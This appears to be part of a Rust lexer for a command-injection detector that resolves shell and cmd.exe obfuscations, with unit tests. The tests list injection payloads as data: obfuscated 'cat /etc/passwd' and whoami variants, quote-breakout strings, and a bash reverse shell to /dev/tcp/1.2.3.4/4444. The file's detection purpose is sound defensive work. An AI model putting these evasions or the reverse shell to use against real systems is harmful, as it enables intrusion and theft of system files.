/// A code point as UTF-8 (command names are ASCII; the rest only needs to
/// stay what it is).
fn push_char(w: &mut Word, v: u32) {
    match char::from_u32(v) {
        Some(c) => {
            let mut buf = [0u8; 4];
            w.extend(c.encode_utf8(&mut buf).as_bytes());
        }
        None => w.push(b'?'),
    }
}

/// What a variable holds, as far as an injected command line can count on.
#[derive(Clone, Copy)]
enum Value {
    /// Known: `PATH`'s usual value, an assignment earlier in the value.
    Exact(Word),
    /// Only the start is known: `HOME` and `PWD` begin with `/`.
    Prefix(&'static [u8]),
    /// Set, to something not known.
    Dynamic,
    /// Not set: empty.
    Unset,
}

fn exact(s: &[u8]) -> Value {
    let mut w = Word::EMPTY;
    w.extend(s);
    Value::Exact(w)
}

/// A POSIX shell variable by name.
fn posix_var(name: &[u8]) -> Value {
    match name {
        b"PATH" => exact(b"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"),
        b"SHELL" => exact(b"/bin/sh"),
        b"BASH" => exact(b"/bin/bash"),
        b"HOME" | b"PWD" | b"OLDPWD" => Value::Prefix(b"/"),
        b"USER" | b"LOGNAME" | b"HOSTNAME" | b"TERM" | b"LANG" | b"SHLVL" | b"UID" | b"EUID"
        | b"PPID" | b"RANDOM" | b"SECONDS" | b"LINENO" | b"BASH_VERSION" | b"HOSTTYPE"
        | b"OSTYPE" | b"MACHTYPE" | b"PS1" | b"PS2" | b"PS4" | b"MAIL" | b"_" => Value::Dynamic,
        _ => Value::Unset,
    }
}

/// A `cmd.exe` environment variable by name (any case).
fn cmd_var(name: &[u8]) -> Value {
    const KNOWN: &[(&str, &str)] = &[
        ("ALLUSERSPROFILE", "C:\\ProgramData"),
        ("COMMONPROGRAMFILES", "C:\\Program Files\\Common Files"),
        ("COMSPEC", "C:\\Windows\\system32\\cmd.exe"),
        ("HOMEDRIVE", "C:"),
        ("OS", "Windows_NT"),
        (
            "PATHEXT",
            ".COM;.EXE;.BAT;.CMD;.VBS;.VBE;.JS;.JSE;.WSF;.WSH;.MSC",
        ),
        ("PROGRAMDATA", "C:\\ProgramData"),
        ("PROGRAMFILES", "C:\\Program Files"),
        ("PUBLIC", "C:\\Users\\Public"),
        ("SYSTEMDRIVE", "C:"),
        ("SYSTEMROOT", "C:\\Windows"),
        ("WINDIR", "C:\\Windows"),
    ];
    KNOWN
        .iter()
        .find(|(k, _)| k.as_bytes().eq_ignore_ascii_case(name))
        .map_or(Value::Dynamic, |(_, v)| exact(v.as_bytes()))
}

#[derive(Clone, Copy)]
enum Range {
    /// `${x:off:len}`: a negative length stops that far from the end.
    Bash((i32, Option<i32>)),
    /// `%x:~off,len%`: the same, in `cmd.exe`.
    Cmd((i32, Option<i32>)),
}

/// `off[:len]`, each an optionally negative number (bash needs a blank
/// before a negative offset: `${x: -1}`).
fn parse_range(s: &[u8]) -> Option<(i32, Option<i32>)> {
    let s = s.trim_ascii_start();
    let (off, rest) = signed(s)?;
    match rest {
        [] => Some((off, None)),
        [b':', len @ ..] => {
            let (len, rest) = signed(len.trim_ascii_start())?;
            rest.is_empty().then_some((off, Some(len)))
        }
        _ => None,
    }
}

fn parse_cmd_range(s: &[u8]) -> Option<(i32, Option<i32>)> {
    let (off, rest) = signed(s)?;
    match rest {
        [] => Some((off, None)),
        [b',', len @ ..] => {
            let (len, rest) = signed(len)?;
            rest.is_empty().then_some((off, Some(len)))
        }
        _ => None,
    }
}

fn signed(s: &[u8]) -> Option<(i32, &[u8])> {
    let (neg, digits) = match s {
        [b'-', rest @ ..] => (true, rest),
        _ => (false, s),
    };
    let (v, n) = number(digits, 10, 6);
    if n == 0 {
        return None;
    }
    let v = i32::try_from(v).ok()?;
    Some((
        if neg { -v } else { v },
        digits.get(n..).unwrap_or_default(),
    ))
}

/// Push `value`, or the part `range` selects.
fn expand(value: Value, range: Option<Range>, w: &mut Word, fl: &mut u16) {
    if range.is_some() {
        *fl |= flags::SUBSTRING;
    }
    let (bytes, complete): (&[u8], bool) = match &value {
        Value::Exact(v) => (v.bytes(), true),
        Value::Prefix(p) => (p, false),
        Value::Dynamic => (&[], false),
        Value::Unset => (&[], true),
    };
    let Some(range) = range else {
        if complete && bytes.is_empty() {
            *fl |= flags::EMPTY;
        } else if complete {
            w.extend(bytes);
        } else {
            w.push(DYNAMIC);
            *fl |= flags::DYNAMIC;
        }
        return;
    };
    let (off, len) = match range {
        Range::Bash(r) | Range::Cmd(r) => r,
    };
    let total = i64::try_from(bytes.len()).unwrap_or(0);
    let from = if off < 0 {
        (total + i64::from(off)).max(0)
    } else {
        i64::from(off)
    };
    let to = match len {
        None => total,
        Some(l) if l < 0 => total + i64::from(l),
        Some(l) => from + i64::from(l),
    };
    let within = complete || (off >= 0 && to <= total);
    if len == Some(0) || (within && to <= from) {
        *fl |= flags::EMPTY;
        return;
    }
    if !within {
        w.push(DYNAMIC);
        *fl |= flags::DYNAMIC;
        return;
    }
    let (from, to) = (
        usize::try_from(from).unwrap_or(0),
        usize::try_from(to.min(total)).unwrap_or(0),
    );
    w.extend(bytes.get(from..to).unwrap_or_default());
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Each token as `kind` or `"cooked"`, for a readable comparison.
    fn lex(input: &str, quote: Quote) -> Vec<String> {
        let mut lexer = Lexer::new(input.as_bytes(), quote);
        let mut out = Vec::new();
        for _ in 0..64 {
            let t = lexer.next_token();
            match t.kind {
                Kind::End | Kind::Cap => break,
                Kind::Word => out.push(String::from_utf8_lossy(t.word.bytes()).into_owned()),
                k => out.push(format!("{k:?}")),
            }
        }
        out
    }

    #[test]
    fn words_are_cooked_the_way_the_shell_would_read_them() {
        let cases: &[(&str, &[&str])] = &[
            ("cat /etc/passwd", &["cat", "/etc/passwd"]),
            ("c'a't c\"a\"t c\\at c''at", &["cat", "cat", "cat", "cat"]),
            ("$'\\x63\\141t' $'\\u0069d'", &["cat", "id"]),
            ("cat${IFS}/etc/passwd", &["cat", "/etc/passwd"]),
            ("cat$IFS$9/etc/passwd", &["cat", "/etc/passwd"]),
            (
                "ca$@t w${1}ho$2ami c$()at c``at c${u}at",
                &["cat", "whoami", "cat", "cat", "cat"],
            ),
            ("${PATH:0:1}bin${HOME:0:1}id", &["/bin/id"]),
            ("w^h^o^a^m^i", &["whoami"]),
            (
                "%COMSPEC:~-7,3% %COMSPEC%",
                &["cmd", "C:\\Windows\\system32\\cmd.exe"],
            ),
            ("{cat,/etc/passwd}", &["cat", "/etc/passwd"]),
            (
                "C:\\Windows\\System32\\cmd.exe /c",
                &["C:\\Windows\\System32\\cmd.exe", "/c"],
            ),
            (
                "X=$'cat\\x20/etc/passwd'&&$X",
                &["X=cat /etc/passwd", "Sep(AndIf)", "cat /etc/passwd"],
            ),
            ("a # comment\nb", &["a", "Sep(Newline)", "b"]),
            ("100% sure", &["100%", "sure"]),
            ("$5 $HOME", &["", "\u{1}"]),
        ];
        for (input, want) in cases {
            assert_eq!(lex(input, Quote::None), *want, "{input:?}");
        }
    }

    #[test]
    fn operators_substitutions_and_redirections() {
        let cases: &[(&str, &[&str])] = &[
            (
                "a;b|c||d&e&&f\ng",
                &[
                    "a",
                    "Sep(Semi)",
                    "b",
                    "Sep(Pipe)",
                    "c",
                    "Sep(OrIf)",
                    "d",
                    "Sep(Amp)",
                    "e",
                    "Sep(AndIf)",
                    "f",
                    "Sep(Newline)",
                    "g",
                ],
            ),
            ("x$(id)y", &["x", "SubOpen(Dollar)", "id", "SubClose", "y"]),
            ("`id`", &["SubOpen(Backtick)", "id", "SubClose"]),
            (
                "$(a $(b))",
                &[
                    "SubOpen(Dollar)",
                    "a",
                    "SubOpen(Dollar)",
                    "b",
                    "SubClose",
                    "SubClose",
                ],
            ),
            ("cat <(id)", &["cat", "SubOpen(Process)", "id", "SubClose"]),
            (
                "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
                &[
                    "bash",
                    "-i",
                    "Redir(Out)",
                    "/dev/tcp/1.2.3.4/4444",
                    "Redir(Dup)",
                ],
            ),
            ("rev<<<'di'", &["rev", "Redir(HereString)", "di"]),
            ("2>/dev/null", &["Redir(Out)", "/dev/null"]),
            (
                "(a) { b; }",
                &[
                    "GroupOpen",
                    "a",
                    "GroupClose",
                    "GroupOpen",
                    "b",
                    "Sep(Semi)",
                    "GroupClose",
                ],
            ),
        ];
        for (input, want) in cases {
            assert_eq!(lex(input, Quote::None), *want, "{input:?}");
        }
    }

    #[test]
    fn quoted_readings_start_inside_the_quote() {
        assert_eq!(
            lex("x'; id; '", Quote::Single),
            ["x", "Sep(Semi)", "id", "Sep(Semi)", ""]
        );
        assert_eq!(lex("it is all quoted", Quote::Single), ["it is all quoted"]);
        assert_eq!(
            lex("a $(id) b\"; ls", Quote::Double),
            [
                "a ",
                "SubOpen(Dollar)",
                "id",
                "SubClose",
                " b",
                "Sep(Semi)",
                "ls"
            ]
        );
        let mut lexer = Lexer::new(b"ab' x", Quote::Single);
        let t = lexer.next_token();
        assert!(t.flags & flags::CLOSES != 0);
        assert_eq!(lexer.closed_at(), Some(3));
    }

    #[test]
    fn flags_say_which_trick_a_word_used() {
        let first = |s: &str| Lexer::new(s.as_bytes(), Quote::None).next_token().flags;
        assert_eq!(first("cat") & flags::EVASION, 0);
        assert_eq!(first("'cat'") & flags::EVASION, 0);
        assert_eq!(first("\"hello world\"") & flags::EVASION, 0);
        assert_ne!(first("c'a't") & flags::SPLIT_QUOTES, 0);
        assert_ne!(first("c''at") & flags::SPLIT_QUOTES, 0);
        assert_ne!(first("c\\at") & flags::ESCAPE, 0);
        assert_ne!(first("w^hoami") & flags::CARET, 0);
        assert_ne!(first("ca$@t") & flags::EMPTY, 0);
        assert_ne!(first("${PATH:0:1}") & flags::SUBSTRING, 0);
        assert_ne!(first("$'\\x63at'") & flags::ANSI_C, 0);
        assert_ne!(first("cat$IFS/x") & flags::IFS, 0);
        assert_ne!(first("{cat,x}") & flags::BRACE, 0);
        assert_ne!(first("/???/c?t") & flags::GLOB, 0);
        assert_ne!(first("C:\\x") & flags::WINDOWS_PATH, 0);
    }

    #[test]
    fn the_token_cap_holds() {
        let input = ";".repeat(MAX_TOKENS * 2);
        let mut lexer = Lexer::new(input.as_bytes(), Quote::None);
        for _ in 0..MAX_TOKENS {
            assert_eq!(lexer.next_token().kind, Kind::Sep(Sep::Semi));
        }
        assert_eq!(lexer.next_token().kind, Kind::Cap);
        assert_eq!(lexer.count(), MAX_TOKENS);
    }
}
